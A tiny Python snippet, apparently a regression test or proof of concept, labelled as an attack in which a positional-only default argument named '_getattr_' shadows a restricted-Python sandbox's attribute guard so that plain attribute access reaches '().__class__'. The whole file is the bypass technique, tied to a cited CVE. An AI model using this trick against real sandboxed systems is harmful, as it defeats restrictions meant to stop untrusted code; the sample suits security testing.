# attack: a positional-only default shadows the _getattr_ guard hook (CVE-2026-55830)
def f(_getattr_=lambda obj, name: object.__getattribute__(obj, name), /):
    return ().__class__


print(f())
